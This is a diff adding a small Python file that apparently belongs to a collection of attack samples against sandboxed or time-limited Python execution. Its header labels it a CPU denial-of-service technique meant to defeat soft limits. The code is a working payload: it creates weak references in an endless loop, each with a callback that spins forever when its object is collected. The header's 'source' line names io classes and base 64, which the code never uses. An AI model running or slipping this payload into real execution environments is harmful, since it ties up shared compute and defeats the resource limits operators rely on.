@@ -1,0 +1,12 @@
+# technique: a function that is called for an object that is gone, and never returns
+# source: own: io's base classes, text over bytes, weak references, base 64
+# goal: one pass that no limit ends
+# impact: dos
+# dos: cpu
+# needs: soft-limit
+import weakref
+class A: pass
+def note(_):
+    while True: pass
+held = []
+while True: held = [weakref.ref(A(), note) for _ in range(10_000)]
